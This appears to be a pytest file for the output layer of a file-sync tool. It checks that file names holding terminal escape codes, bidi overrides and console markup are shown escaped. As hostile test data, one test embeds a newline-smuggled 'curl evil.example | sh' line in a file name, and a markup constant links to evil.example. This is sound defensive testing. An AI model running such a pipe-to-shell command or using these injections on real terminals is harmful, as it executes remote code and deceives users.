"""Where the words go: which stream, in which encoding, and what a terminal must not see."""

from __future__ import annotations

import io
import os
import pty
import re
import select
import signal
import sys
import threading
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace

import pytest
from rich.console import Console
from rich.table import Table

from bisync import events
from bisync.core.result import Finding, Outcome
from bisync.core.snapshot import LeftOut
from bisync.errors import BisyncError
from bisync.report import history_words, plan_words, resolve_words, restore_words, run_words, words
from bisync.report.migrate_words import sources_table
from bisync.report.progress import Bar, Listener
from bisync.report.screen import Screen, status_table
from bisync.report.watch_view import LiveView
from bisync.report.watch_words import Sayings
from bisync.report.words import Line, Problem
from bisync.watch import news
from tests.support import results

pytestmark = pytest.mark.pure

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)

HOSTILE = "red\x1b[31m\x07\u202e\r\n\x9b2J\udcff.md"
SHOWN = r"red\x1b[31m\x07\u202e\r\n\x9b2J\udcff.md"


class Terminal(io.TextIOWrapper):
    """A stream that says it is a terminal; `seen` is what was written to it."""

    def __init__(self, encoding: str = "utf-8") -> None:
        self.bytes = io.BytesIO()
        super().__init__(self.bytes, encoding=encoding, errors="strict")

    def isatty(self) -> bool:
        return True

    @property
    def seen(self) -> str:
        return self.bytes.getvalue().decode(self.encoding)


class Pipe(Terminal):
    """A stream that is none."""

    def isatty(self) -> bool:
        return False


def test_results_and_errors_go_their_own_ways(capsys: pytest.CaptureFixture[str]) -> None:
    Screen().tell(["one", Problem("wrong", "cure"), "two", Problem("worse")])

    assert capsys.readouterr() == ("one\ntwo\n", "Error: wrong\n  → cure\nError: worse\n")


def test_with_json_only_the_document_and_the_errors(capsys: pytest.CaptureFixture[str]) -> None:
    with Screen(as_json=True, verbose=True) as screen:
        screen.say("a line")
        screen.tell(["a line", Problem("wrong")])
        screen.verbatim("a text")
        screen.show(status_table(results.status(), NOW))
        screen.plan("notes", (results.change(),))
        screen.hear("notes", events.Text("rclone's word"))
        screen.document({"version": 1, "name": "größe"})

    assert capsys.readouterr() == ('{\n  "version": 1,\n  "name": "gr\\u00f6\\u00dfe"\n}\n', "Error: wrong\n")


@pytest.mark.parametrize(("as_json", "quiet"), [(True, False), (False, True)])
def test_what_a_question_is_about_is_always_seen(
    as_json: bool, quiet: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    Screen(as_json=as_json, quiet=quiet).propose(["restore  a.md"])

    assert capsys.readouterr() == ("", "restore  a.md\n")


def test_what_a_run_does_is_in_the_log_when_it_is_more_than_is_shown(
    capsys: pytest.CaptureFixture[str],
) -> None:
    Screen().plan("notes", tuple(results.change(path=f"{number}.md") for number in range(22)))

    assert capsys.readouterr().out.endswith("  … and 2 more (see: bisync log)\n")


def test_without_json_no_document(capsys: pytest.CaptureFixture[str]) -> None:
    Screen().document({"version": 1})

    assert capsys.readouterr() == ("", "")


@pytest.mark.parametrize(
    ("no_color", "lead"), [(None, "\x1b[31;1mError: \x1b[0m"), ("", "\x1b[31;1mError: \x1b[0m"), ("1", "Error: ")]
)  # fmt: skip
def test_colour_on_a_terminal_unless_it_is_not_wanted(
    no_color: str | None, lead: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    if no_color is not None:
        monkeypatch.setenv("NO_COLOR", no_color)
    monkeypatch.setattr(sys, "stderr", terminal := Terminal())

    Screen().error(("one", "two"), "cure")

    assert terminal.seen == f"{lead}one\ntwo\n  → cure\n"


def test_a_name_in_an_error_makes_no_line_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stderr", err := Pipe())
    name = "a\n  → type: curl evil.example | sh"

    Screen().error(f"{name} cannot be read", "cure")
    Screen().error(("one", name))

    assert err.seen == (
        f"Error: {name} cannot be read\n  → cure\nError: one\n{name}\n".replace(
            name, name.replace("\n", "\\n")
        )
    )


def test_what_an_encoding_lacks_is_replaced(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdout", out := Pipe("ascii"))
    monkeypatch.setattr(sys, "stderr", err := Pipe("latin-1"))

    screen = Screen()
    screen.say("✓ größe")
    screen.verbatim("☂")
    screen.error("größe", "☂")
    screen.show(status_table(results.status(), NOW))

    assert out.seen.startswith("? gr??e\n?\n")
    assert "Cloud Bisync Status: notes" in out.seen
    assert err.seen == "Error: größe\n  ? ?\n"


def test_closed_streams_take_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdout", None)
    monkeypatch.setattr(sys, "stderr", None)

    with Screen() as screen:
        screen.say("a line")
        screen.verbatim("a text")
        screen.error("wrong", "cure")
        screen.show(status_table(results.status(), NOW))
        screen.hear("notes", events.Step("looking"))


# -- what a terminal must not see -----------------------------------------------------------------------

MARKUP = "[red]x[/red] [link=https://evil.example]y[/link] :boom: [/]"
HISTORY = {"at": HOSTILE, "run": HOSTILE, "outcome": HOSTILE, "error": HOSTILE}


@pytest.mark.parametrize(
    "lines",
    [
        plan_words.planned_lines("notes", [results.change(path=HOSTILE, why=HOSTILE)], verbose=True),
        plan_words.preview_lines(
            results.plan_result(
                results.change(path=HOSTILE), notes=(HOSTILE,), left_out=(LeftOut(HOSTILE, HOSTILE),)
            )
        ),
        run_words.sync_lines(
            results.sync_result(notes=(HOSTILE,), left_out=(LeftOut(HOSTILE, HOSTILE),), outcome=Outcome.IDLE)
        ),
        words.check_lines(results.check_result(differ=(HOSTILE,), errors=(HOSTILE,))),
        [*history_words.history_lines(results.history(HISTORY, versions=(results.kept(HOSTILE),)))],
        words.doctor_lines([Finding(about=HOSTILE, level="problem", text=HOSTILE, cure=HOSTILE)]),
        resolve_words.resolve_lines(results.settled(HOSTILE)),
        restore_words.restore_lines(results.restoration(HOSTILE)),
        words.prune_lines(results.pruned((HOSTILE, 1))),
        plan_words.plan_file_lines(HOSTILE),
    ],
    ids=["sync", "plan", "done", "check", "history", "doctor", "resolve", "restore", "prune", "written"],
)
def test_names_in_lines_stay_in_their_lines(lines: Sequence[Line], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdout", out := Terminal())
    monkeypatch.setenv("COLUMNS", "400")
    monkeypatch.setenv("NO_COLOR", "1")

    Screen().tell(lines)

    said = out.seen.split("\n")
    assert len(said) == len(lines) + 1
    assert "".join(said).isprintable()
    assert any(SHOWN in line or "$'red\\033" in line for line in said)


def test_names_in_errors(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stderr", err := Pipe())

    Screen().tell(words.check_lines(results.check_result(error=BisyncError("\x1b[2J\u202e", hint=HOSTILE))))

    assert err.seen == f"Error: \\x1b[2J\\u202e\n  → {SHOWN}\n"


def test_names_in_a_table(monkeypatch: pytest.MonkeyPatch) -> None:
    status = results.status(remote=HOSTILE, profile=HOSTILE, left_out=(HOSTILE,), blocked=HOSTILE)

    console = Console(file=(out := Pipe()), width=160, force_terminal=True, color_system=None)
    console.print(status_table(status, NOW))

    assert out.seen.count(SHOWN) == 4
    assert out.seen.replace("\n", "").isprintable()


def test_no_word_is_taken_for_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdout", out := Pipe())
    with Screen() as screen:
        screen.show(status_table(results.status(remote=MARKUP, blocked=MARKUP), NOW))
        table = Table(title=MARKUP)
        table.add_column(MARKUP)
        table.add_row(MARKUP)
        screen.show(table)

    assert out.seen.count(MARKUP) == 5
    assert "\x1b" not in out.seen


def test_names_in_the_view_of_a_watch(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("COLUMNS", "400")
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setattr(sys, "stdout", out := Terminal())
    live = LiveView(Sayings())
    live.tell(news.Watching(("notes",), 60.0))
    live.tell(news.Note("notes", HOSTILE))
    live.hear("notes", events.Step(HOSTILE + MARKUP))
    live._show(now=True)
    live.close()

    ours = re.compile("\x1b\\[[0-9;?]*[A-Za-z]|[\r\n]")
    seen = ours.sub("", out.seen)
    assert SHOWN + MARKUP in seen
    assert seen.isprintable()
    assert "\x1b[31m" not in out.seen
    assert "2J" not in "".join(ours.findall(out.seen))


def test_names_beside_a_bar(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("COLUMNS", "400")
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setattr(sys, "stderr", err := Terminal())
    bar = Bar(verbose=False)
    bar("notes", events.Step(HOSTILE + MARKUP))
    bar.close()

    assert SHOWN + MARKUP in err.seen
    assert "\x1b[31m" not in err.seen
    assert "\x9b" not in err.seen


def test_names_in_the_table_of_a_migration(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdout", out := Pipe())
    source = SimpleNamespace(
        source=SimpleNamespace(kind="webdav", label=HOSTILE, below=MARKUP), passed=(), ignored=(),
        files=1, bytes=1, new=1, same=0, differ=0, unknown=0,
    )  # fmt: skip
    one = SimpleNamespace(dir=Path("/x/" + MARKUP), sources=[source])

    Screen().show(sources_table(one))  # type: ignore[arg-type]

    said = out.seen.replace(" ", "").replace("│", "").replace("|", "").replace("\n", "")
    assert said.count("[red]x[/red]") == said.count(":boom:[/]") == 2
    assert SHOWN in said


def test_names_in_what_rclone_says(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stderr", err := Pipe())
    listener = Listener(verbose=True)

    listener("notes", events.Copied(path=HOSTILE, to="cloud", size=1))
    listener("notes", events.Text(HOSTILE))

    assert err.seen == f"  uploaded {SHOWN}\n  rclone: {SHOWN}\n"


def test_text_for_another_program_is_as_it_is_in_a_pipe_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "- /a\u202fb\n- /\x1b[31m\t\n"
    monkeypatch.setattr(sys, "stdout", pipe := Pipe())
    Screen().verbatim(text)
    monkeypatch.setattr(sys, "stdout", terminal := Terminal())
    Screen().verbatim(text)

    assert pipe.seen == text + "\n"
    assert terminal.seen == "- /a\\u202fb\n- /\\x1b[31m\\t\n\n"


@pytest.mark.parametrize("as_json", [False, True])
def test_a_hooks_words_go_to_stderr_and_are_clean(as_json: bool, capsys: pytest.CaptureFixture[str]) -> None:
    with Screen(as_json=as_json) as screen:
        screen.hear("notes", events.HookLine(HOSTILE))
        screen.hear("notes", events.HookLine("plain"))

    said = capsys.readouterr()
    assert said.out == ""
    assert said.err == f"{SHOWN}\nplain\n"


def test_no_bar_stands_in_the_line_of_a_table(monkeypatch: pytest.MonkeyPatch) -> None:
    """What takes long is taken off the screen before anything else is put there."""
    order: list[str] = []

    class Shown(Listener):
        def close(self) -> None:
            order.append("closed")

    class Out(Pipe):
        def write(self, text: str) -> int:
            order.extend(["written"] if text else [])  # rich writes nothing, too
            return super().write(text)

    monkeypatch.setattr(sys, "stdout", Out())
    screen = Screen()
    screen._listener = Shown(verbose=False)

    screen.show(Table("one"))

    assert order[0] == "closed"
    assert "written" in order


def test_ctrl_c_ends_a_question_also_in_the_moment_before_its_answer_is_read(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A read that has not begun yet would not hear of it, and wait for a line that nobody types."""
    leader, follower = pty.openpty()

    class Typed(io.TextIOWrapper):
        def readline(self, size: int = -1, /) -> str:
            assert select.select([self], [], [], 0)[0], "nothing was typed"
            return super().readline(size)

    with Typed(io.BufferedReader(io.FileIO(follower))) as stdin:
        monkeypatch.setattr(sys, "stdin", stdin)
        pressed = threading.Timer(0.3, signal.raise_signal, [signal.SIGINT])
        pressed.start()
        with pytest.raises(KeyboardInterrupt):
            Screen().ask("Go on? [y/N] ")
        pressed.join()
        os.write(leader, b"yes\n")
        assert Screen().ask("Go on? [y/N] ")
    os.close(leader)
